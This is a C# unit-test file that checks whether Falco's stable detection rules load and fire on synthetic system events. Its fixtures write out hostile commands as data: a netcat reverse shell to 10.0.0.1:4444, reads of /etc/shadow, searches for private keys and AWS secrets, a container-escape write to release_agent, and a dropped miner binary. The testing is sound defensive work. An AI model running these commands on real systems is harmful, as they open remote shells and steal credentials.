using Sensor.Events;
using Sensor.Rules;
using Sensor.Tests.Support;
using static Sensor.Tests.Support.TestEvents;

namespace Sensor.Tests.Rules;

/// <summary>Falco's own stable rule file, unmodified: how much of it loads, and whether loaded rules behave as Falco
/// documents them (each with an event that fires it and a near miss that must not).</summary>
public sealed class FalcoStableRulesTests
{
    private static readonly Lazy<RuleSet> Falco = new(() => new RuleLoader().LoadPath(RepoFiles.FalcoStableRules).Build());

    private static List<string> Fired(SensorEvent e) => new RuleEvaluator(Falco.Value).Evaluate(e).Select(r => r.Name).ToList();

    [Fact]
    public void Load_FalcoStableRules_LoadsAtLeast20Of25()
    {
        var rules = Falco.Value;

        Assert.Equal(25, rules.Rules.Count + rules.Skipped.Count);
        Assert.Equal(24, rules.Rules.Count);
        var skipped = Assert.Single(rules.Skipped);
        Assert.Equal("Contact K8S API Server From Container", skipped.Name);
        Assert.Contains("fd.sip.name", skipped.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Load_FalcoStableRules_NeedsOnlyTheSyscallsTheRulesName()
    {
        var required = Falco.Value.RequiredEventTypes;

        Assert.False(required.Complement);
        Assert.Contains("execve", required.Types);
        Assert.Contains("openat", required.Types);
        Assert.Contains("dup2", required.Types);
        Assert.DoesNotContain("read", required.Types);
    }

    internal static readonly List<(string Rule, SensorEvent Event, bool Fires)> CaseList = new()
    {
        // Terminal shell in container: shell with a tty whose parent is the container runtime.
        ("Terminal shell in container", Exec(Proc("bash") with { Tty = 34816 }, Container(), [Proc("runc")]), true),
        ("Terminal shell in container", Exec(Proc("bash"), Container(), [Proc("runc")]), false),
        ("Terminal shell in container", Exec(Proc("bash") with { Tty = 34816 }, null, [Proc("runc")]), false),
        // Read sensitive file untrusted.
        ("Read sensitive file untrusted", Open(Proc("cat", "/etc/shadow"), "/etc/shadow"), true),
        ("Read sensitive file untrusted", Open(Proc("sshd"), "/etc/shadow"), false),
        ("Read sensitive file untrusted", Open(Proc("cat", "/etc/shadow"), "/etc/shadow", result: -13), false),
        ("Read sensitive file untrusted", Open(Proc("cat", "/etc/hosts"), "/etc/hosts"), false),
        // Directory traversal monitored file read (raw path with ../).
        ("Directory traversal monitored file read", Open(Proc("python3"), "/etc/shadow", rawPath: "/var/www/../../etc/../etc/shadow", ancestors: [Proc("gunicorn")]), true),
        ("Directory traversal monitored file read", Open(Proc("python3"), "/etc/shadow", rawPath: "/var/www/../../etc/../etc/shadow", ancestors: [Proc("bash")]), false),
        ("Directory traversal monitored file read", Open(Proc("python3"), "/etc/shadow", rawPath: "/etc/shadow"), false),
        // Run shell untrusted: shell below a web server.
        ("Run shell untrusted", Exec(Proc("sh", "-c", "id"), ancestors: [Proc("php-fpm"), Proc("nginx")]), true),
        ("Run shell untrusted", Exec(Proc("sh", "-c", "id"), ancestors: [Proc("bash"), Proc("sshd")]), false),
        // Netcat Remote Code Execution in Container.
        ("Netcat Remote Code Execution in Container", Exec(Proc("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), Container()), true),
        ("Netcat Remote Code Execution in Container", Exec(Proc("nc", "-z", "10.0.0.1", "80"), Container()), false),
        // Search Private Keys or Passwords.
        ("Search Private Keys or Passwords", Exec(Proc("find", "/", "-name", "id_rsa")), true),
        ("Search Private Keys or Passwords", Exec(Proc("find", "/", "-name", "*.log")), false),
        // Clear Log Activities.
        ("Clear Log Activities", Open(Proc("sh"), "/var/log/syslog", flags: 0x241), true),
        ("Clear Log Activities", Open(Proc("sh"), "/var/log/syslog", flags: 0x441), false),
        // Remove Bulk Data from Disk.
        ("Remove Bulk Data from Disk", Exec(Proc("shred", "-u", "/tmp/x")), true),
        // Create Symlink Over Sensitive Files.
        ("Create Symlink Over Sensitive Files", Event("symlinkat", Proc("ln"), args: new Dictionary<string, string> { ["target"] = "/etc/shadow", ["linkpath"] = "/tmp/s" }), true),
        ("Create Symlink Over Sensitive Files", Event("symlinkat", Proc("ln"), args: new Dictionary<string, string> { ["target"] = "/etc/hosts", ["linkpath"] = "/tmp/s" }), false),
        // Create Hardlink Over Sensitive Files.
        ("Create Hardlink Over Sensitive Files", Event("linkat", Proc("ln"), args: new Dictionary<string, string> { ["oldpath"] = "/etc/shadow", ["newpath"] = "/tmp/s" }), true),
        // Packet socket created in container.
        ("Packet socket created in container", Event("socket", Proc("tcpdump"), container: Container(), args: new Dictionary<string, string> { ["domain"] = "AF_PACKET" }), true),
        ("Packet socket created in container", Event("socket", Proc("curl"), container: Container(), args: new Dictionary<string, string> { ["domain"] = "AF_INET" }), false),
        // Redirect STDOUT/STDIN to Network Connection in Container: dup2(sock, 0).
        ("Redirect STDOUT/STDIN to Network Connection in Container", Event("dup2", Proc("bash"), new FdInfo { Name = "10.88.0.5:40000->10.0.0.9:4444", TypeChar = '4', L4Proto = "tcp", ServerIp = "10.0.0.9", ServerPort = 4444, ClientIp = "10.88.0.5", ClientPort = 40000 }, result: 0, container: Container()), true),
        ("Redirect STDOUT/STDIN to Network Connection in Container", Event("dup2", Proc("bash"), new FdInfo { Name = "/tmp/log", TypeChar = 'f' }, result: 1, container: Container()), false),
        // Linux Kernel Module Injection Detected.
        ("Linux Kernel Module Injection Detected", Event("finit_module", Proc("insmod") with { CapEffective = 1UL << 16 }, container: Container()), true),
        ("Linux Kernel Module Injection Detected", Event("finit_module", Proc("insmod") with { CapEffective = 0 }, container: Container()), false),
        // Debugfs Launched in Privileged Container.
        ("Debugfs Launched in Privileged Container", Exec(Proc("debugfs"), Container() with { Privileged = true }), true),
        ("Debugfs Launched in Privileged Container", Exec(Proc("debugfs"), Container()), false),
        // Detect release_agent File Container Escapes.
        ("Detect release_agent File Container Escapes", Open(Proc("sh") with { CapEffective = (1UL << 21) | (1UL << 1) }, "/sys/fs/cgroup/rdma/release_agent", flags: 1, container: Container()), true),
        ("Detect release_agent File Container Escapes", Open(Proc("sh") with { CapEffective = 1UL << 1 }, "/sys/fs/cgroup/rdma/release_agent", flags: 1, container: Container()), false),
        // PTRACE attached to process / anti-debug.
        ("PTRACE attached to process", Event("ptrace", Proc("gdb"), args: new Dictionary<string, string> { ["request"] = "PTRACE_ATTACH" }), true),
        ("PTRACE attached to process", Event("ptrace", Proc("gdb"), args: new Dictionary<string, string> { ["request"] = "PTRACE_PEEKDATA" }), false),
        ("PTRACE anti-debug attempt", Event("ptrace", Proc("malware"), args: new Dictionary<string, string> { ["request"] = "PTRACE_TRACEME" }), true),
        // Find AWS Credentials.
        ("Find AWS Credentials", Exec(Proc("grep", "-r", "aws_secret_access_key", "/")), true),
        ("Find AWS Credentials", Exec(Proc("grep", "-r", "error", "/var/log")), false),
        // Execution from /dev/shm.
        ("Execution from /dev/shm", Exec(Proc("x") with { Exe = "/dev/shm/x" }), true),
        ("Execution from /dev/shm", Exec(Proc("x") with { Exe = "/tmp/x" }), false),
        // Drop and execute new binary in container.
        ("Drop and execute new binary in container", Exec(Proc("xmrig") with { IsExeUpperLayer = true }, Container()), true),
        ("Drop and execute new binary in container", Exec(Proc("xmrig"), Container()), false),
        // Disallowed SSH Connection Non Standard Port.
        ("Disallowed SSH Connection Non Standard Port", Connect(Proc("ssh") with { Exe = "/usr/bin/ssh" }, "203.0.113.7", 443), true),
        ("Disallowed SSH Connection Non Standard Port", Connect(Proc("ssh") with { Exe = "/usr/bin/ssh" }, "203.0.113.7", 22), false),
        ("Disallowed SSH Connection Non Standard Port", Connect(Proc("ssh") with { Exe = "/usr/bin/ssh" }, "10.1.2.3", 443), false),
        // Fileless execution via memfd_create.
        ("Fileless execution via memfd_create", Exec(Proc("3") with { IsExeFromMemfd = true, ExePath = "memfd:program" }), true),
        ("Fileless execution via memfd_create", Exec(Proc("runc") with { IsExeFromMemfd = true, ExePath = "memfd:runc_cloned:/proc/self/exe" }), false),
        // System user interactive.
        ("System user interactive", Exec(Proc("ls") with { User = "www-data", Uid = 33 }, ancestors: [Proc("bash"), Proc("sshd")]), true),
        ("System user interactive", Exec(Proc("ls") with { User = "alice", Uid = 1000 }, ancestors: [Proc("bash"), Proc("sshd")]), false),
        // Read sensitive file trusted after startup: a server reading /etc/shadow more than 5 s after start.
        ("Read sensitive file trusted after startup", Open(Proc("nginx"), "/etc/shadow") , true),
        ("Read sensitive file trusted after startup", Event("openat", Proc("nginx"), new FdInfo { Name = "/etc/shadow", TypeChar = 'f', OpenFlags = 0 }, 3, timestampNs: 2_000_000_000), false),
    };

    public static TheoryData<string, int, bool> Cases()
    {
        var data = new TheoryData<string, int, bool>();
        for (var i = 0; i < CaseList.Count; i++)
        {
            data.Add(CaseList[i].Rule, i, CaseList[i].Fires);
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public void FalcoRule_FiresOrNot_AsFalcoDocuments(string rule, int index, bool fires)
    {
        Assert.True(Falco.Value.Find(rule) is not null, $"rule '{rule}' is not loaded");

        Assert.Equal(fires, Fired(CaseList[index].Event).Contains(rule));
    }

    [Fact]
    public void LoadedRules_EachHaveATestThatFiresThem()
    {
        var fired = CaseList.Where(c => c.Fires).Select(c => c.Rule).ToHashSet();

        var untested = Falco.Value.Rules.Select(r => r.Name).Where(n => !fired.Contains(n)).ToList();
        Assert.True(untested.Count == 0, $"loaded rules without a firing test: {string.Join(", ", untested)}");
    }
}
